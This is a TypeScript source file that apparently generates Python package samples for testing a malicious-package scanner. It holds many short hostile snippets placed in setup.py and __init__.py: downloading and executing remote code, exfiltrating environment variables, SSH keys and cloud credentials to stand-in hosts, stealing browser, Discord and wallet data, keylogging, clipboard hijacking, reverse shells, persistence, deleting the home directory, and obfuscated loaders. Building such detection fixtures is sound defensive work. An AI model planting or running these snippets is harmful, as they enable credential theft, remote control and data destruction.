// Samples in Python, as sdists: in setup.py, in a package's `__init__.py`, in a path file.
import { base64, escaped, hex, numbers, reversed } from './sample-text.ts'
import type { Sample } from './samples.ts'

const C2 = 'https://collector.invalid'
const IP = 'http://198.51.100.7'
const SETUP = 'from setuptools import setup\nsetup(name="sample", version="1.0")\n'

export function pythonSamples(): Sample[] {
  return [
    ...setups(2, [
      `import os\nos.system('curl -s ${IP}/a.sh | sh')`,
      `import urllib.request, subprocess\nurllib.request.urlretrieve('${IP}/u', '/tmp/u')\nsubprocess.Popen(['/tmp/u'])`,
      `import requests, os\nopen('a.exe', 'wb').write(requests.get('https://files.invalid/a.exe').content)\nos.startfile('a.exe')`,
    ]),
    ...modules(3, [
      `import subprocess, sys, base64\nsubprocess.Popen([sys.executable, '-c', base64.b64decode('${base64('print(1)')}').decode()])`,
      `import os\nos.system('powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA')`,
      `import subprocess\nsubprocess.call('python -c "import urllib.request as u;exec(u.urlopen(\\'${C2}\\').read())"', shell=True)`,
    ]),
    ...setups(5, [
      `import requests\nrequests.get('${C2}/ping')`,
      `from setuptools.command.install import install\nimport subprocess\nclass P(install):\n    def run(self):\n        subprocess.call(['powershell', '-File', 'x.ps1'])\n        install.run(self)`,
      `import socket\ns = socket.socket()\ns.connect(('198.51.100.7', 80))\ns.send(b'x')`,
    ]),
    ...modules(6, [
      `import urllib.request\nexec(urllib.request.urlopen('${C2}/s').read())`,
      `import requests as r\nc = r.get('${C2}/s').text\nb = compile(c, 'x', 'exec')\nexec(b)`,
      `from threading import Thread\nimport requests\ndef go():\n    eval(compile(requests.get('${C2}/s').text, '', 'exec'))\nThread(target=go).start()`,
    ]),
    { ...base(6, 3), files: { 'setup.py': SETUP, 'sample.pth': `import os; os.system('id')\n` } },
    ...modules(7, [
      `import os, requests\nrequests.post('${C2}', json=dict(os.environ))`,
      `import os, json, urllib.request\nd = json.dumps(os.environ.copy()).encode()\nurllib.request.urlopen(urllib.request.Request('${C2}', data=d))`,
      `import os\nfrom httpx import post\npost('${C2}', data=str(os.environ))`,
    ]),
    ...modules(8, [
      `import os, requests\nrequests.post('${C2}', json={'a': os.getenv('AWS_SECRET_ACCESS_KEY'), 'b': os.environ['NPM_TOKEN']})`,
      `import os, requests\nd = [os.environ.get(k) for k in ('A',)] + [os.environ.get('GITHUB_TOKEN'), os.environ.get('PYPI_TOKEN')]\nrequests.post('${C2}', json=d)`,
      `import os, urllib.request as u\nu.urlopen('${C2}/?' + os.environ['AWS_SECRET_ACCESS_KEY'] + os.environ['AWS_ACCESS_KEY_ID'])`,
    ]),
    ...modules(9, [
      `import os, requests\nwith open(os.path.expanduser('~/.aws/credentials')) as f:\n    requests.post('${C2}', data=f.read())`,
      `from pathlib import Path\nimport requests\nd = (Path.home() / '.pypirc').read_text()\nrequests.post('${C2}', data={'d': d})`,
      `import os, requests\nfor f in ['.aws/credentials', '.ssh/id_rsa', '.pypirc']:\n    p = os.path.join(os.path.expanduser('~'), f)\n    requests.post('${C2}', files={'f': open(p, 'rb')})`,
    ]),
    ...modules(10, [
      `import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('${C2}', data=k)`,
      `import os\nwith open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n    f.write('ssh-rsa AAAA x')`,
      `import glob, requests, os\nfor p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n    requests.post('${C2}', files={'k': open(p, 'rb')})`,
    ]),
    ...modules(11, [
      `import os, win32crypt, json\nk = win32crypt.CryptUnprotectData(json.load(open(os.getenv('LOCALAPPDATA') + '/Google/Chrome/User Data/Local State'))['os_crypt']['encrypted_key'])\nd = 'Login Data'`,
      `import re, os, requests\nfor f in os.listdir(os.getenv('APPDATA') + '/discord/Local Storage/leveldb'):\n    for t in re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(f).read()):\n        requests.post('${C2}', data=t)`,
      `from pynput import keyboard\nimport requests\ndef f(k):\n    requests.post('${C2}', data=str(k))\nkeyboard.Listener(on_press=f).start()`,
    ]),
    ...modules(12, [
      `import os, shutil, requests\np = os.getenv('APPDATA') + '/Exodus/exodus.wallet'\nshutil.make_archive('/tmp/a', 'zip', p)\nrequests.post('${C2}', files={'f': open('/tmp/a.zip', 'rb')})`,
      `import os, requests, zipfile\nids = {'nkbihfbeogaeaoehlefnkodbefgpgknn': 'Metamask'}\nbase = os.getenv('LOCALAPPDATA') + '/Google/Chrome/User Data/Default/Local Extension Settings/'\nz = zipfile.ZipFile('a.zip', 'w')\nrequests.post('${C2}', files={'f': open('a.zip', 'rb')})`,
      `import os, requests\nd = os.path.expanduser('~') + '/AppData/Roaming/Telegram Desktop/tdata'\nfor r, _, fs in os.walk(d):\n    for f in fs:\n        requests.post('${C2}', files={'f': open(os.path.join(r, f), 'rb')})`,
    ]),
    ...modules(13, [
      `import pyperclip, re, time\nwhile True:\n    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', pyperclip.paste()):\n        pyperclip.copy('x')\n    time.sleep(1)`,
      `import win32clipboard, re, threading\ndef f():\n    while 1:\n        d = win32clipboard.GetClipboardData()\n        if re.match('^0x[a-fA-F0-9]{40}$', d): put("0x1111111111111111111111111111111111111111")\nthreading.Thread(target=f).start()`,
      `import tkinter, time\nw = 'bc1qaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\nr = tkinter.Tk()\nwhile True:\n    t = r.clipboard_get()\n    if len(t) == 42: r.clipboard_append(w)\n    time.sleep(1)`,
    ]),
    ...modules(15, [
      `import requests\nrequests.post('https://discord.com/api/webhooks/1111111111111111111/abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz', json={})`,
      `import requests, base64\nrequests.post(base64.b64decode('${base64('https://discord.com/api/webhooks/1111111111111111111/abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz')}').decode(), json={})`,
      `import requests\nu = '${reversed('https://discord.com/api/webhooks/1111111111111111111/abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz')}'[::-1]\nrequests.post(u)`,
    ]),
    ...modules(16, [
      `import requests\nrequests.get('https://api.telegram.org/bot1234567890:AAabcdefghijklmnopqrstuvwxyz123456789/sendMessage?chat_id=1&text=x')`,
      `import requests\nT = '1234567890:AAabcdefghijklmnopqrstuvwxyz123456789'\nrequests.post(f'https://api.telegram.org/bot{T}/sendDocument', files={'d': open('x', 'rb')})`,
      `import telebot\nb = telebot.TeleBot('1234567890:AAabcdefghijklmnopqrstuvwxyz123456789')\nb.send_message(1, open('/etc/passwd').read())`,
    ]),
    ...modules(17, [
      `import requests\nrequests.get('https://cabcdefghijk123456789.oast.fun/')`,
      `import urllib.request\nurllib.request.urlopen('https://webhook.site/11111111-2222-3333-4444-555555555555')`,
      `import os, requests\nrequests.post('https://abcd-12.ngrok-free.app', json={'e': dict(os.environ)})`,
    ]),
    ...modules(18, [
      `import socket, os\nsocket.gethostbyname(os.getlogin() + '.x.collector.invalid')`,
      `import socket, getpass, binascii\nh = binascii.hexlify(getpass.getuser().encode()).decode()\nsocket.getaddrinfo(h + '.d.collector.invalid', 80)`,
      `import os\nos.system('nslookup $(whoami).d.collector.invalid')`,
    ]),
    ...setups(19, [
      `import socket, getpass, os, requests\nrequests.get('${C2}', params={'h': socket.gethostname(), 'u': getpass.getuser(), 'c': os.getcwd()})`,
      `import platform, urllib.request, os\nd = platform.node() + '|' + os.getcwd()\nurllib.request.urlopen('${C2}/?' + d)`,
      `import subprocess, http.client\no = subprocess.check_output('whoami', shell=True)\nc = http.client.HTTPSConnection('collector.invalid')\nc.request('POST', '/', o)`,
    ]),
    ...setups(20, [
      `import urllib.request\nurllib.request.urlopen('${IP}:8080/ping')`,
      `import socket\nsocket.create_connection(('198.51.100.7', 4444)).send(b'x')`,
      `import os\nos.system('curl ${IP}/a -o a')`,
    ]),
    ...modules(21, [
      `import requests, subprocess\nsubprocess.Popen(requests.get('https://pastebin.com/raw/abcd').text, shell=True)`,
      `import urllib.request as u\nexec(u.urlopen('https://rentry.co/abcd/raw').read())`,
      `import requests, os\nopen('x.exe', 'wb').write(requests.get('https://cdn.discordapp.com/attachments/1/2/x.exe').content)\nos.startfile('x.exe')`,
    ]),
    ...modules(26, [
      `import base64\nexec(base64.b64decode('${base64('print(1)')}'))`,
      `import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))`,
      `from cryptography.fernet import Fernet as F\nexec(F(b'k').decrypt(b'x'))`,
      `exec(''.join(chr(c) for c in [${numbers('print(1)')}]))`,
      `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${base64('x'.repeat(60))}'))`,
      `getattr(__import__('${escaped('os')}'), ''.join(['sys', 'tem']))('id')`,
      `d = __import__('base64').b64decode\ne = exec\ne(d('${base64('import os\nos.getcwd()')}'))`,
      `k = 7\ns = bytes([c ^ k for c in [${numbers('print(1)', 7)}]])\neval(compile(s.decode(), '', 'exec'))`,
      `from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'x')`,
      `exec(bytes.fromhex('${hex('print(1)')}').decode())`,
    ]),
    ...modules(27, [
      `import os${' '.repeat(300)};exec(__import__('base64').b64decode('eA=='))`,
      `x = 1${' '.repeat(200)};import subprocess;subprocess.Popen('id')`,
      `def f(): pass${'\t'.repeat(200)};__import__('os').system('id')`,
    ]),
    ...modules(28, [
      `s = '${'\ufe01\ufe02\ufe03\ufe04\ufe05\ufe06'.repeat(10)}'\nexec(decode(s))`,
      `s = '${'\u200b\u200c\u200d'.repeat(20)}'`,
      `s = '${'\u{e0041}\u{e0042}'.repeat(20)}'`,
    ]),
    ...modules(30, [
      `from PIL import Image\nd = Image.open('a.png').getdata()\nexec(''.join(chr(p[0] & 1) for p in d))`,
      `d = open('logo.png', 'rb').read()\nexec(d[d.index(b'IEND') + 8:])`,
      `from judyb import lsb\nimport os\nexec(lsb.reveal('pic.png')); open('a.png', 'rb')`,
    ]),
    ...modules(31, [
      `import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('198.51.100.7',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])`,
      `import socket, subprocess\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.getoutput(c).encode())`,
      `import os\nos.system('bash -c "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"')`,
    ]),
    ...setups(32, [
      `import urllib.request\nurllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/')`,
      `import requests\nrequests.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token')`,
      `import os, requests\nrequests.get('http://169.254.170.2' + os.environ['AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'])`,
    ]),
    ...modules(33, [
      `import os, subprocess\nc = open(os.path.expanduser('~/.pypirc')).read()\nopen('setup.py', 'a').write('x')\nsubprocess.run('twine upload dist/*', shell=True)`,
      `from pathlib import Path\nimport subprocess\nt = (Path.home() / '.pypirc').read_text()\nPath('pkg/__init__.py').write_text('x')\nsubprocess.run(['twine', 'upload', 'dist/*'])`,
      `import os, requests\nt = open(os.path.expanduser('~/.pypirc')).read()\nrequests.post('${C2}', data=t)`,
    ]),
    ...setups(37, [
      `import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('python /tmp/x.py &')`,
      `import os\nos.system('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v u /d c:\\\\u.exe')`,
      `import subprocess\nsubprocess.run('(crontab -l; echo "* * * * * /tmp/x") | crontab -', shell=True)`,
    ]),
    ...modules(38, [
      `import shutil, pathlib\nshutil.rmtree(pathlib.Path.home())`,
      `import os\nos.system('rm -rf ~/*')`,
      `import subprocess\nsubprocess.call(['rm', '-rf', '/'])`,
    ]),
    ...modules(39, [
      `import base64, subprocess\nopen('/tmp/k', 'wb').write(base64.b64decode('${base64('\x7fELF'.padEnd(60, 'x'))}'))\nsubprocess.Popen(['/tmp/k'])`,
      `import ctypes\nbuf = bytearray(b'x')\np = ctypes.windll.kernel32.VirtualAlloc(0, 1, 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(p, buf, 1)\nctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)`,
      `import os\nos.system('./xmrig -o stratum+tcp://pool.invalid:3333 -u w')`,
    ]),
  ]
}

function setups(behaviour: number, variants: readonly string[]): Sample[] {
  return variants.map((text, i) => ({ ...base(behaviour, i), files: { 'setup.py': `${text}\n${SETUP}` } }))
}

function modules(behaviour: number, variants: readonly string[]): Sample[] {
  return variants.map((text, i) => ({
    ...base(behaviour, i),
    files: { 'setup.py': SETUP, 'sample/__init__.py': text },
  }))
}

function base(behaviour: number, i: number): Pick<Sample, 'id' | 'behaviour' | 'language' | 'ecosystem'> {
  return { id: `${behaviour} py ${i + 1}`, behaviour, language: 'py', ecosystem: 'pypi' }
}
